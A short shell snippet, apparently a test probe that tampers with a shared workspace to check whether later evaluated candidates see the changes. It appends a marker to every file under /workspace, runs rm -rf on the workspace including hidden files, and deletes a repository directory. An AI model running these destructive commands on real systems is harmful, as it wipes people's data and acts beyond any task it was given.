# Changes every file of the repository, for the candidates after it.
find /workspace -type f -exec sh -c 'echo "$MARK" >> "$1"' _ {} \;
rm -rf /workspace/* /workspace/.[a-z]*
echo "$MARK" > "$REPOSITORY/planted"; rm -rf "$REPOSITORY" 2> /dev/null; ls "$REPOSITORY"
